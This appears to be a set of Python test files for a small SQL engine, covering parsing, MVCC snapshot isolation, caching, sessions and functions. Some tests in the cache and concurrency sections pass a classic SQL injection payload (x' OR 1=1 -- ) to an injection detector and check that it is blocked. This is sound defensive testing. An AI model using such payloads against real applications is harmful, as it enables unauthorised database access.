        assert isinstance(where, ast.IsNull) and not where.negated
        where2 = parse_one("SELECT * FROM t WHERE a IS NOT NULL").where
        assert where2.negated

    def test_null_safe_equal(self):
        where = parse_one("SELECT * FROM t WHERE a <=> NULL").where
        assert where.op == "<=>"

    def test_function_call(self):
        expr = parse_one("SELECT CONCAT(a, 'x', 1)").fields[0].expr
        assert expr == ast.FuncCall(
            "CONCAT",
            [ast.ColumnRef("a"), ast.Literal("x", "string"),
             ast.Literal(1, "int")],
        )

    def test_count_star(self):
        expr = parse_one("SELECT COUNT(*) FROM t").fields[0].expr
        assert expr.name == "COUNT"
        assert isinstance(expr.args[0], ast.Star)

    def test_count_distinct(self):
        expr = parse_one("SELECT COUNT(DISTINCT a) FROM t").fields[0].expr
        assert expr.distinct

    def test_keyword_named_functions(self):
        assert parse_one("SELECT IF(1, 2, 3)").fields[0].expr.name == "IF"
        assert parse_one("SELECT CHAR(39)").fields[0].expr.name == "CHAR"
        assert parse_one("SELECT MOD(7, 3)").fields[0].expr.name == "MOD"

    def test_case_searched(self):
        expr = parse_one(
            "SELECT CASE WHEN a = 1 THEN 'x' ELSE 'y' END FROM t"
        ).fields[0].expr
        assert isinstance(expr, ast.Case)
        assert expr.operand is None
        assert len(expr.whens) == 1

    def test_case_with_operand(self):
        expr = parse_one(
            "SELECT CASE a WHEN 1 THEN 'x' WHEN 2 THEN 'y' END FROM t"
        ).fields[0].expr
        assert expr.operand == ast.ColumnRef("a")
        assert len(expr.whens) == 2

    def test_case_requires_when(self):
        with pytest.raises(ParseError):
            parse_one("SELECT CASE ELSE 1 END")

    def test_exists(self):
        where = parse_one(
            "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u)"
        ).where
        assert isinstance(where, ast.Exists)

    def test_scalar_subquery(self):
        expr = parse_one("SELECT (SELECT MAX(a) FROM t)").fields[0].expr
        assert isinstance(expr, ast.Subquery)

    def test_qualified_column(self):
        expr = parse_one("SELECT t.a FROM t").fields[0].expr
        assert expr == ast.ColumnRef("a", table="t")

    def test_true_false_null_literals(self):
        fields = parse_one("SELECT TRUE, FALSE, NULL").fields
        assert fields[0].expr == ast.Literal(True, "bool")
        assert fields[1].expr == ast.Literal(False, "bool")
        assert fields[2].expr == ast.Literal(None, "null")


class TestUnion(object):
    def test_union_distinct_default(self):
        stmt = parse_one("SELECT a FROM t UNION SELECT b FROM u")
        assert len(stmt.unions) == 1
        all_flag, branch = stmt.unions[0]
        assert not all_flag
        assert isinstance(branch, ast.Select)

    def test_union_all(self):
        stmt = parse_one("SELECT a FROM t UNION ALL SELECT b FROM u")
        assert stmt.unions[0][0] is True

    def test_union_chain(self):
        stmt = parse_one(
            "SELECT a FROM t UNION SELECT b FROM u UNION SELECT c FROM v"
        )
        assert len(stmt.unions) == 2

    def test_union_trailing_order_by(self):
        stmt = parse_one(
            "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1"
        )
        assert stmt.order_by


class TestDml(object):
    def test_insert_values(self):
        stmt = parse_one("INSERT INTO t (a, b) VALUES (1, 'x')")
        assert stmt.table == "t"
        assert stmt.columns == ["a", "b"]
        assert len(stmt.rows) == 1

    def test_insert_multi_row(self):
        stmt = parse_one("INSERT INTO t (a) VALUES (1), (2), (3)")
        assert len(stmt.rows) == 3

    def test_insert_without_columns(self):
        stmt = parse_one("INSERT INTO t VALUES (1, 2)")
        assert stmt.columns == []

    def test_insert_set_form(self):
        stmt = parse_one("INSERT INTO t SET a = 1, b = 'x'")
        assert stmt.columns == ["a", "b"]
        assert len(stmt.rows) == 1

    def test_insert_ignore(self):
        assert parse_one("INSERT IGNORE INTO t (a) VALUES (1)").ignore

    def test_update(self):
        stmt = parse_one("UPDATE t SET a = 1, b = b + 1 WHERE id = 3")
        assert stmt.table == "t"
        assert [col for col, _ in stmt.assignments] == ["a", "b"]
        assert stmt.where is not None

    def test_update_with_limit(self):
        stmt = parse_one("UPDATE t SET a = 1 LIMIT 2")
        assert stmt.limit.count == ast.Literal(2, "int")

    def test_delete(self):
        stmt = parse_one("DELETE FROM t WHERE a = 1")
        assert isinstance(stmt, ast.Delete)

    def test_delete_without_where(self):
        assert parse_one("DELETE FROM t").where is None


class TestDdl(object):
    def test_create_table(self):
        stmt = parse_one(
            "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, "
            "name VARCHAR(40) NOT NULL, note TEXT, score FLOAT DEFAULT 0)"
        )
        assert stmt.name == "t"
        assert stmt.columns[0].primary_key
        assert stmt.columns[0].auto_increment
        assert stmt.columns[1].length == 40
        assert stmt.columns[1].not_null
        assert stmt.columns[3].default.value == 0

    def test_create_if_not_exists(self):
        assert parse_one(
            "CREATE TABLE IF NOT EXISTS t (a INT)"
        ).if_not_exists

    def test_primary_key_clause(self):
        stmt = parse_one("CREATE TABLE t (a INT, b INT, PRIMARY KEY (b))")
        assert not stmt.columns[0].primary_key
        assert stmt.columns[1].primary_key

    def test_primary_key_unknown_column(self):
        with pytest.raises(ParseError):
            parse_one("CREATE TABLE t (a INT, PRIMARY KEY (zz))")

    def test_drop_table(self):
        stmt = parse_one("DROP TABLE t")
        assert isinstance(stmt, ast.DropTable) and not stmt.if_exists

    def test_drop_if_exists(self):
        assert parse_one("DROP TABLE IF EXISTS t").if_exists

    def test_show_tables(self):
        assert isinstance(parse_one("SHOW TABLES"), ast.ShowTables)

    def test_describe(self):
        assert parse_one("DESCRIBE t").table == "t"


class TestMultiStatement(object):
    def test_two_statements(self):
        statements, _ = parse_sql("SELECT 1; SELECT 2")
        assert len(statements) == 2

    def test_trailing_semicolons(self):
        statements, _ = parse_sql("SELECT 1;;;")
        assert len(statements) == 1

    def test_comments_surface(self):
        _, comments = parse_sql("/* id:9 */ SELECT 1 -- tail")
        assert comments == ["id:9", "tail"]

    def test_garbage_after_statement(self):
        with pytest.raises(ParseError):
            parse_sql("SELECT 1 SELECT 2")

    def test_statement_must_start_with_keyword(self):
        with pytest.raises(ParseError):
            parse_one("foo bar")

    def test_parse_one_rejects_two(self):
        with pytest.raises(ParseError):
            parse_one("SELECT 1; SELECT 2")


class TestTransactionAndIndexStatements(object):
    def test_begin_variants(self):
        assert isinstance(parse_one("BEGIN"), ast.Begin)
        assert isinstance(parse_one("START TRANSACTION"), ast.Begin)

    def test_commit_rollback(self):
        assert isinstance(parse_one("COMMIT"), ast.Commit)
        assert isinstance(parse_one("ROLLBACK"), ast.Rollback)

    def test_create_index(self):
        stmt = parse_one("CREATE INDEX idx ON t (col)")
        assert isinstance(stmt, ast.CreateIndex)
        assert (stmt.name, stmt.table, stmt.column) == ("idx", "t", "col")

    def test_create_unique_index(self):
        stmt = parse_one("CREATE UNIQUE INDEX idx ON t (col)")
        assert isinstance(stmt, ast.CreateIndex)

    def test_drop_index(self):
        stmt = parse_one("DROP INDEX idx ON t")
        assert isinstance(stmt, ast.DropIndex)
        assert stmt.name == "idx" and stmt.table == "t"

    def test_explain(self):
        stmt = parse_one("EXPLAIN SELECT * FROM t WHERE a = 1")
        assert isinstance(stmt, ast.Explain)
        assert isinstance(stmt.select, ast.Select)

    def test_replace_statement_vs_function(self):
        stmt = parse_one("REPLACE INTO t (a) VALUES (REPLACE('x','x','y'))")
        assert stmt.replace
        assert stmt.rows[0][0].name == "REPLACE"
