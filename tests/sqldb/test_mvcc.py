"""MVCC row versioning: snapshot isolation, conflicts, GC, concurrency.

The tentpole claim — *writers never block readers* — decomposes into
testable pieces: statements read through a pinned watermark and never
see uncommitted or torn state; a transaction sees its own pending
writes; first-writer-wins conflicts surface as the retryable errno 1213
with zero partial effects; version chains are collected once no read
view can need them; and a deterministic virtual-time schedule shows
eight readers finishing while a long same-table UPDATE still holds its
table lock.
"""

import threading

import pytest

from repro.benchlab.harness import run_mixed_workload_experiment
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import WriteConflictError


BANK_SCHEMA = (
    "CREATE TABLE accounts (id INT PRIMARY KEY, bal INT); "
    "INSERT INTO accounts (id, bal) VALUES (1, 100), (2, 100)"
)


def _bank():
    database = Database()
    database.seed(BANK_SCHEMA)
    return database


def _bal(conn, account_id):
    outcome = conn.query_or_raise(
        "SELECT bal FROM accounts WHERE id = %d" % account_id
    )
    return outcome.result_set.scalar()


def _count(conn):
    return conn.query_or_raise(
        "SELECT COUNT(*) FROM accounts"
    ).result_set.scalar()


class TestSnapshotIsolation(object):
    def test_transaction_reads_repeat_despite_later_commits(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        assert _bal(a, 1) == 100
        b.query_or_raise("UPDATE accounts SET bal = 50 WHERE id = 1")
        assert _bal(b, 1) == 50       # autocommit reads the latest commit
        assert _bal(a, 1) == 100      # a's snapshot predates b's commit
        a.commit()
        assert _bal(a, 1) == 50       # new statement, new watermark

    def test_transaction_sees_its_own_pending_writes(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        a.query_or_raise("UPDATE accounts SET bal = 7 WHERE id = 1")
        assert _bal(a, 1) == 7        # own uncommitted version
        assert _bal(b, 1) == 100      # invisible to everyone else
        a.commit()
        assert _bal(b, 1) == 7

    def test_pending_delete_is_invisible_until_commit(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        a.query_or_raise("DELETE FROM accounts WHERE id = 2")
        assert _count(a) == 1         # deleted for the deleter
        assert _count(b) == 2         # tombstone hidden from others
        a.commit()
        assert _count(b) == 1

    def test_pending_insert_is_invisible_until_commit(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        a.query_or_raise("INSERT INTO accounts (id, bal) VALUES (3, 5)")
        assert _count(a) == 3
        assert _count(b) == 2
        a.commit()
        assert _count(b) == 3

    def test_rollback_discards_pending_versions(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        a.query_or_raise("UPDATE accounts SET bal = 1 WHERE id = 1")
        a.rollback()
        assert _bal(a, 1) == 100
        assert _bal(b, 1) == 100
        # the table is writable again afterwards
        b.query_or_raise("UPDATE accounts SET bal = 2 WHERE id = 1")
        assert _bal(a, 1) == 2

    def test_indexed_reads_honour_the_snapshot(self):
        db = _bank()
        db.seed("CREATE INDEX idx_bal ON accounts (bal)")
        a, b = Connection(db), Connection(db)
        a.begin()
        assert a.query_or_raise(
            "SELECT COUNT(*) FROM accounts WHERE bal = 100"
        ).result_set.scalar() == 2
        b.query_or_raise("UPDATE accounts SET bal = 55 WHERE id = 1")
        # index-assisted probe inside a's transaction: still 2 rows
        assert a.query_or_raise(
            "SELECT COUNT(*) FROM accounts WHERE bal = 100"
        ).result_set.scalar() == 2
        a.commit()
        assert a.query_or_raise(
            "SELECT COUNT(*) FROM accounts WHERE bal = 100"
        ).result_set.scalar() == 1


class TestWriteConflicts(object):
    def test_pending_write_conflicts_with_second_writer(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        a.query_or_raise("UPDATE accounts SET bal = 70 WHERE id = 1")
        outcome = b.query("UPDATE accounts SET bal = 30 WHERE id = 1")
        assert not outcome.ok
        assert isinstance(outcome.error, WriteConflictError)
        assert outcome.error.errno == 1213
        assert outcome.error.transient
        a.rollback()

    def test_first_writer_wins_after_commit(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        b.begin()                       # pins b's snapshot now
        a.query_or_raise("UPDATE accounts SET bal = 70 WHERE id = 1")
        # the row committed after b's snapshot: b lost the race
        outcome = b.query("UPDATE accounts SET bal = 30 WHERE id = 1")
        assert not outcome.ok
        assert outcome.error.errno == 1213
        b.rollback()
        assert _bal(a, 1) == 70

    def test_conflicting_statement_has_zero_partial_effects(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        a.query_or_raise("UPDATE accounts SET bal = 70 WHERE id = 2")
        # b's statement targets both rows; row 2 conflicts, so row 1
        # must be untouched too — the retry can then cleanly re-apply
        outcome = b.query("UPDATE accounts SET bal = 0")
        assert not outcome.ok
        assert outcome.error.errno == 1213
        assert _bal(b, 1) == 100
        a.rollback()

    def test_delete_conflicts_with_pending_update(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        a.query_or_raise("UPDATE accounts SET bal = 70 WHERE id = 1")
        outcome = b.query("DELETE FROM accounts WHERE id = 1")
        assert not outcome.ok
        assert outcome.error.errno == 1213
        assert _count(b) == 2
        a.rollback()

    def test_on_duplicate_key_conflicts_before_mutating(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        a.begin()
        a.query_or_raise("UPDATE accounts SET bal = 70 WHERE id = 1")
        outcome = b.query(
            "INSERT INTO accounts (id, bal) VALUES (1, 0) "
            "ON DUPLICATE KEY UPDATE bal = 99"
        )
        assert not outcome.ok
        assert outcome.error.errno == 1213
        a.rollback()
        assert _bal(b, 1) == 100

    def test_retry_resolves_conflict_exactly_once(self):
        db = _bank()
        a = Connection(db)
        a.begin()
        a.query_or_raise("UPDATE accounts SET bal = 70 WHERE id = 1")
        # b's backoff hook commits a, so b's single retry runs against
        # the committed row and succeeds — the conflict is observed
        # exactly once and the statement applies exactly once
        b = Connection(db, retries=1, backoff=1e-9,
                       sleep=lambda _seconds: a.commit())
        outcome = b.query("UPDATE accounts SET bal = bal + 5 WHERE id = 1")
        assert outcome.ok
        assert outcome.affected_rows == 1
        assert b.transient_retries == 1
        assert _bal(b, 1) == 75

    def test_retry_inside_open_transaction_keeps_conflicting(self):
        db = _bank()
        a, b = Connection(db), Connection(db)
        b.begin()
        a.query_or_raise("UPDATE accounts SET bal = 70 WHERE id = 1")
        outcome = b.query("UPDATE accounts SET bal = 30 WHERE id = 1")
        assert outcome.error.errno == 1213
        # same snapshot, same verdict: the transaction must restart
        outcome = b.query("UPDATE accounts SET bal = 30 WHERE id = 1")
        assert outcome.error.errno == 1213
        b.rollback()
        b.query_or_raise("UPDATE accounts SET bal = 30 WHERE id = 1")
        assert _bal(b, 1) == 30


class TestVersionGC(object):
    def test_single_session_workload_leaves_no_chains(self):
        db = _bank()
        conn = Connection(db)
        for value in (1, 2, 3):
            conn.query_or_raise(
                "UPDATE accounts SET bal = %d WHERE id = 1" % value
            )
        stats = db.table("accounts").mvcc_stats()
        assert stats["versioned_rows"] == 0
        assert stats["chained_images"] == 0
        assert stats["tombstones"] == 0

    def test_open_view_pins_history_until_vacuum(self):
        db = _bank()
        conn = Connection(db)
        view = db.open_read_view()
        conn.query_or_raise("UPDATE accounts SET bal = 9 WHERE id = 1")
        conn.query_or_raise("DELETE FROM accounts WHERE id = 2")
        table = db.table("accounts")
        stats = table.mvcc_stats()
        assert stats["versioned_rows"] == 1
        assert stats["tombstones"] == 1
        # the pinned view still reads the pre-update, pre-delete state
        rows = sorted(row["id"] for row in table.iter_rows(view))
        assert rows == [1, 2]
        old = [row for row in table.iter_rows(view) if row["id"] == 1]
        assert old[0]["bal"] == 100
        db.close_read_view(view)
        assert db.mvcc_horizon() is None
        table.vacuum(db.mvcc_horizon())
        stats = table.mvcc_stats()
        assert stats["versioned_rows"] == 0
        assert stats["tombstones"] == 0

    def test_vacuum_spares_history_above_the_horizon(self):
        db = _bank()
        conn = Connection(db)
        view = db.open_read_view()
        conn.query_or_raise("UPDATE accounts SET bal = 9 WHERE id = 1")
        table = db.table("accounts")
        # the view's watermark predates the update: its chain must stay
        table.vacuum(db.mvcc_horizon())
        assert table.mvcc_stats()["versioned_rows"] == 1
        db.close_read_view(view)


class TestConcurrentReadersAndWriter(object):
    def test_sum_invariant_holds_under_a_racing_writer(self):
        """Real threads: a transfer loop moves balance between the two
        accounts while readers sum them.  Snapshot reads must never
        observe a torn transfer (sum != 200) or an uncommitted half."""
        db = _bank()
        stop = threading.Event()
        failures = []

        def writer():
            conn = Connection(db)
            for _ in range(40):
                conn.begin()
                conn.query_or_raise(
                    "UPDATE accounts SET bal = bal - 10 WHERE id = 1"
                )
                conn.query_or_raise(
                    "UPDATE accounts SET bal = bal + 10 WHERE id = 2"
                )
                conn.commit()
            stop.set()

        def reader():
            conn = Connection(db)
            while not stop.is_set():
                total = conn.query_or_raise(
                    "SELECT SUM(bal) FROM accounts"
                ).result_set.scalar()
                if total != 200:
                    failures.append(total)
                    return

        threads = [threading.Thread(target=reader) for _ in range(4)]
        threads.append(threading.Thread(target=writer))
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60)
        assert failures == []
        conn = Connection(db)
        assert conn.query_or_raise(
            "SELECT SUM(bal) FROM accounts"
        ).result_set.scalar() == 200
        assert _bal(conn, 1) == 100 - 40 * 10

    def test_eight_readers_progress_during_long_update(self):
        """Deterministic virtual time: with MVCC lock plans the whole
        read side completes while one long UPDATE on the *same* table
        is still holding its table lock; under the exclusive baseline
        everything serializes behind it."""
        setup = BANK_SCHEMA
        reads = ["SELECT bal FROM accounts WHERE id = 1"]
        write = "UPDATE accounts SET bal = bal + 1"
        pinned = dict(reader_service=[1e-3], writer_service=1.0,
                      readers=8, loops=5)
        mvcc = run_mixed_workload_experiment(
            setup, reads, write, lock_mode="shared", **pinned
        )
        serial = run_mixed_workload_experiment(
            setup, reads, write, lock_mode="exclusive", **pinned
        )
        # every reader finished while the writer still held its lock
        assert mvcc.readers_overlapped_writer
        assert mvcc.reader_makespan < mvcc.writer_service
        # the exclusive baseline parks all reads behind the writer
        assert not serial.readers_overlapped_writer
        assert serial.reader_makespan > serial.writer_service
        assert mvcc.reader_speedup_vs(serial) >= 4.0
        assert mvcc.reader_statements == serial.reader_statements == 40
