"""Tests for the query-pipeline cache and the per-session layer.

Covers the cache contract (hit/miss accounting, LRU eviction,
schema-version invalidation, SEPTIC memoization), per-connection session
isolation, and the multi-session concurrency guarantees (exact SEPTIC
stats under a thread storm).
"""

import threading

import pytest

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.sqldb.cache import CacheEntry, PipelineCache
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

from tests.conftest import TICKET_QUERY, TICKETS_SCHEMA


def _fresh_db():
    database = Database()
    database.seed(TICKETS_SCHEMA)
    return database


class TestPipelineCacheUnit(object):
    def _entry(self):
        return CacheEntry("SELECT 1", ["stmt"], [])

    def test_miss_then_hit(self):
        cache = PipelineCache(4)
        assert cache.get("utf8", "SELECT 1", 0) is None
        entry = self._entry()
        cache.put("utf8", "SELECT 1", 0, entry)
        assert cache.get("utf8", "SELECT 1", 0) is entry
        assert cache.misses == 1 and cache.hits == 1

    def test_key_includes_charset_and_schema_version(self):
        cache = PipelineCache(8)
        cache.put("utf8", "SELECT 1", 0, self._entry())
        assert cache.get("gbk", "SELECT 1", 0) is None
        assert cache.get("utf8", "SELECT 1", 1) is None

    def test_lru_eviction_order(self):
        cache = PipelineCache(2)
        first, second, third = (self._entry() for _ in range(3))
        cache.put("c", "q1", 0, first)
        cache.put("c", "q2", 0, second)
        cache.get("c", "q1", 0)          # refresh q1 → q2 is now LRU
        cache.put("c", "q3", 0, third)
        assert cache.get("c", "q2", 0) is None
        assert cache.get("c", "q1", 0) is first
        assert cache.evictions == 1
        assert len(cache) == 2

    def test_racy_double_fill_keeps_first_entry(self):
        cache = PipelineCache(4)
        winner, loser = self._entry(), self._entry()
        assert cache.put("c", "q", 0, winner) is winner
        assert cache.put("c", "q", 0, loser) is winner

    def test_zero_capacity_rejected(self):
        with pytest.raises(ValueError):
            PipelineCache(0)

    def test_stats_dict(self):
        cache = PipelineCache(4)
        cache.put("c", "q", 0, self._entry())
        cache.get("c", "q", 0)
        cache.get("c", "nope", 0)
        stats = cache.stats_dict()
        assert stats["entries"] == 1
        assert stats["hits"] == 1 and stats["misses"] == 1
        assert stats["hit_rate"] == 0.5


class TestDatabaseCacheIntegration(object):
    def test_repeated_query_hits_cache(self):
        database = _fresh_db()
        cache = database.pipeline_cache
        cache.hits = cache.misses = 0
        for _ in range(5):
            database.run("SELECT * FROM tickets")
        assert cache.misses == 1
        assert cache.hits == 4

    def test_cache_can_be_disabled(self):
        database = Database(cache_size=0)
        assert database.pipeline_cache is None
        database.seed(TICKETS_SCHEMA)
        rows = database.run("SELECT * FROM tickets")[0].result_set.rows
        assert len(rows) == 3

    def test_cached_and_uncached_results_identical(self):
        cached, uncached = _fresh_db(), Database(cache_size=0)
        uncached.seed(TICKETS_SCHEMA)
        sql = "SELECT reservID FROM tickets WHERE creditCard > 2000 " \
              "ORDER BY reservID"
        for _ in range(3):
            a = cached.run(sql)[0].result_set.rows
            b = uncached.run(sql)[0].result_set.rows
            assert a == b

    def test_ddl_between_identical_queries_revalidates(self):
        database = _fresh_db()
        sql = "SELECT * FROM tickets"
        before = database.run(sql)[0].result_set
        assert "notes" not in before.columns
        database.run("ALTER TABLE tickets ADD COLUMN notes VARCHAR(50)")
        after = database.run(sql)[0].result_set
        assert "notes" in after.columns  # stale star-expansion would miss it

    def test_ddl_makes_previously_invalid_query_valid(self):
        database = _fresh_db()
        sql = "SELECT notes FROM tickets"
        conn = Connection(database)
        assert not conn.query(sql).ok          # column does not exist yet
        conn.query("ALTER TABLE tickets ADD COLUMN notes VARCHAR(50)")
        assert conn.query(sql).ok              # must re-validate, not replay

    def test_drop_table_invalidates(self):
        database = _fresh_db()
        conn = Connection(database)
        assert conn.query("SELECT * FROM tickets").ok
        conn.query("DROP TABLE tickets")
        assert not conn.query("SELECT * FROM tickets").ok

    def test_schema_version_bumps_on_ddl_only(self):
        database = _fresh_db()
        version = database.schema_version
        database.run("SELECT * FROM tickets")
        database.run("INSERT INTO tickets (reservID, creditCard) "
                     "VALUES ('NEW', 1)")
        assert database.schema_version == version
        database.run("ALTER TABLE tickets ADD COLUMN c INT")
        assert database.schema_version == version + 1

    def test_validation_stack_memoized_for_single_statements(self):
        database = _fresh_db()
        database.run("SELECT * FROM tickets")
        entry = database.pipeline_cache.get(
            database.charset, "SELECT * FROM tickets",
            database.schema_version)
        assert entry is not None
        assert entry.stack is not None
        assert entry.single_statement

    def test_multi_statement_scripts_not_stack_memoized(self):
        database = _fresh_db()
        script = "CREATE TABLE s1 (x INT); INSERT INTO s1 (x) VALUES (1)"
        database.run(script, multi=True)
        # the script's second statement only validates once the first has
        # executed, so its stack must never be frozen into the cache
        entry = database.pipeline_cache.get(
            database.charset, script, database.schema_version)
        if entry is not None:
            assert entry.stack is None

    def test_failed_validation_not_cached_as_success(self):
        database = _fresh_db()
        conn = Connection(database)
        for _ in range(3):
            outcome = conn.query("SELECT missing_col FROM tickets")
            assert not outcome.ok
            assert "missing_col" in str(outcome.error)


class TestSepticMemoization(object):
    def _stack(self):
        septic = Septic(mode=Mode.TRAINING,
                        logger=SepticLogger(verbose=False))
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        connection = Connection(database)
        connection.query(TICKET_QUERY % ("ID34FG", "1234"))
        septic.mode = Mode.PREVENTION
        return septic, database, connection

    def test_memo_fills_after_first_hook_pass(self):
        septic, database, connection = self._stack()
        sql = TICKET_QUERY % ("ZZ11AA", "9999")
        connection.query(sql)
        entry = database.pipeline_cache.get(
            connection.charset, sql, database.schema_version)
        assert entry is not None
        assert entry.septic_memo.ready
        assert entry.septic_memo.query_id is not None

    def test_memoized_hook_detection_unchanged(self):
        septic, database, connection = self._stack()
        legit = TICKET_QUERY % ("ZZ11AA", "9999")
        attack = TICKET_QUERY % ("x' OR 1=1 -- ", "0")
        for _ in range(4):
            assert connection.query(legit).ok
        for _ in range(4):
            outcome = connection.query(attack)
            assert not outcome.ok
        assert septic.stats.attacks_detected == 4
        assert septic.stats.queries_dropped == 4

    def test_memoized_id_matches_fresh_id(self):
        septic, database, connection = self._stack()
        sql = TICKET_QUERY % ("QQ77MM", "4321")
        connection.query(sql)
        entry = database.pipeline_cache.get(
            connection.charset, sql, database.schema_version)
        memo_id = entry.septic_memo.query_id
        # a cold database computes the same composed ID for the same text
        septic2, database2, connection2 = self._stack()
        connection2.query(sql)
        entry2 = database2.pipeline_cache.get(
            connection2.charset, sql, database2.schema_version)
        assert entry2.septic_memo.query_id.value == memo_id.value


class TestSessionIsolation(object):
    def test_last_insert_id_is_per_connection(self):
        database = _fresh_db()
        a, b = Connection(database), Connection(database)
        a.query("INSERT INTO tickets (reservID, creditCard) "
                "VALUES ('AAA', 1)")
        assert a.last_insert_id == 4
        assert b.last_insert_id == 0
        b.query("INSERT INTO tickets (reservID, creditCard) "
                "VALUES ('BBB', 2)")
        assert b.last_insert_id == 5
        assert a.last_insert_id == 4

    def test_last_insert_id_function_uses_own_session(self):
        database = _fresh_db()
        a, b = Connection(database), Connection(database)
        a.query("INSERT INTO tickets (reservID, creditCard) "
                "VALUES ('AAA', 1)")
        rows_a = a.query("SELECT LAST_INSERT_ID() AS lid").rows
        rows_b = b.query("SELECT LAST_INSERT_ID() AS lid").rows
        assert rows_a[0][0] == 4
        assert rows_b[0][0] == 0

    def test_transactions_are_per_connection(self):
        database = _fresh_db()
        a, b = Connection(database), Connection(database)
        a.query("BEGIN")
        a.query("DELETE FROM tickets")
        b.query("INSERT INTO tickets (reservID, creditCard) "
                "VALUES ('KEEP', 7)")
        a.query("ROLLBACK")
        # a's rollback restores its snapshot; it must not have been
        # confused by b never being in a transaction
        assert database.in_transaction is False
        reservations = {r["reservid"] for r in database.table("tickets").rows}
        assert {"ID34FG", "ZZ11AA", "QQ77MM"} <= reservations

    def test_in_transaction_true_while_any_session_open(self):
        database = _fresh_db()
        a, b = Connection(database), Connection(database)
        a.query("BEGIN")
        assert database.in_transaction
        b.query("BEGIN")
        a.query("COMMIT")
        assert database.in_transaction   # b still holds one
        b.query("ROLLBACK")
        assert not database.in_transaction

    def test_connection_charset_rides_its_session(self):
        database = _fresh_db()
        gbk = Connection(database, charset="gbk")
        utf8 = Connection(database)
        assert gbk.session.charset == "gbk"
        assert utf8.session.charset == database.charset


class TestConcurrency(object):
    THREADS = 4
    LOOPS = 25

    def _storm(self, worker):
        threads = [threading.Thread(target=worker, args=(i,))
                   for i in range(self.THREADS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def test_exact_stats_under_thread_storm(self):
        septic = Septic(mode=Mode.TRAINING,
                        logger=SepticLogger(verbose=False))
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        trainer = Connection(database)
        trainer.query(TICKET_QUERY % ("ID34FG", "1234"))
        septic.mode = Mode.PREVENTION
        base = septic.stats.queries_processed
        errors = []

        def worker(index):
            try:
                conn = Connection(database)
                legit = TICKET_QUERY % ("ZZ11AA", "9999")
                attack = TICKET_QUERY % ("x' OR 1=1 -- ", "0")
                for _ in range(self.LOOPS):
                    if not conn.query(legit).ok:
                        errors.append("legit blocked")
                    if conn.query(attack).ok:
                        errors.append("attack passed")
            except Exception as exc:  # pragma: no cover - diagnostic
                errors.append(repr(exc))

        self._storm(worker)
        assert errors == []
        expected = self.THREADS * self.LOOPS
        stats = septic.stats.as_dict()
        assert stats["queries_processed"] == base + 2 * expected
        assert stats["attacks_detected"] == expected
        assert stats["queries_dropped"] == expected
        assert stats["sqli_detected"] == expected

    def test_concurrent_inserts_race_free(self):
        database = _fresh_db()
        errors = []

        def worker(index):
            conn = Connection(database)
            for _ in range(self.LOOPS):
                outcome = conn.query(
                    "INSERT INTO tickets (reservID, creditCard) "
                    "VALUES ('T%d', %d)" % (index, index))
                if not outcome.ok:
                    errors.append(str(outcome.error))

        self._storm(worker)
        assert errors == []
        table = database.table("tickets")
        assert len(table.rows) == 3 + self.THREADS * self.LOOPS
        ids = [row["id"] for row in table.rows]
        assert len(set(ids)) == len(ids)  # AUTO_INCREMENT never reused
        assert database.statements_executed >= self.THREADS * self.LOOPS

    def test_concurrent_reads_share_cache_entry(self):
        database = _fresh_db()
        cache = database.pipeline_cache
        cache.hits = cache.misses = 0
        barrier = threading.Barrier(self.THREADS)
        errors = []

        def worker(index):
            conn = Connection(database)
            barrier.wait()
            for _ in range(self.LOOPS):
                if len(conn.query("SELECT * FROM tickets").rows) != 3:
                    errors.append("wrong row count")

        self._storm(worker)
        assert errors == []
        total = self.THREADS * self.LOOPS
        assert cache.hits + cache.misses == total
        # every lookup after the initial fill(s) must hit
        assert cache.hits >= total - self.THREADS
        assert len(cache) >= 1

    def test_concurrent_ddl_and_queries_never_crash(self):
        database = _fresh_db()
        errors = []

        def reader(index):
            conn = Connection(database)
            for _ in range(self.LOOPS):
                outcome = conn.query("SELECT * FROM tickets")
                if not outcome.ok:
                    errors.append(str(outcome.error))

        def ddl_worker(index):
            conn = Connection(database)
            for step in range(self.LOOPS):
                name = "scratch_%d_%d" % (index, step)
                if not conn.query("CREATE TABLE %s (x INT)" % name).ok:
                    errors.append("create failed")
                if not conn.query("DROP TABLE %s" % name).ok:
                    errors.append("drop failed")

        threads = [threading.Thread(target=reader, args=(i,))
                   for i in range(2)]
        threads += [threading.Thread(target=ddl_worker, args=(i,))
                    for i in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert errors == []
        assert "tickets" in database.tables
