"""Tests for expression evaluation and the builtin function registry."""

import pytest

from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import SQLError


@pytest.fixture
def q(db):
    """Evaluate a scalar SELECT expression and return the single value."""
    connection = Connection(db)

    def run(expression):
        outcome = connection.query("SELECT %s" % expression)
        if not outcome.ok:
            raise outcome.error
        return outcome.result_set.scalar()

    return run


class TestStringFunctions(object):
    def test_concat(self, q):
        assert q("CONCAT('a', 'b', 1)") == "ab1"

    def test_concat_null(self, q):
        assert q("CONCAT('a', NULL)") is None

    def test_concat_ws(self, q):
        assert q("CONCAT_WS('-', 'a', NULL, 'b')") == "a-b"

    def test_length_bytes_vs_chars(self, q):
        assert q("LENGTH('héllo')") == 6
        assert q("CHAR_LENGTH('héllo')") == 5

    def test_upper_lower(self, q):
        assert q("UPPER('aBc')") == "ABC"
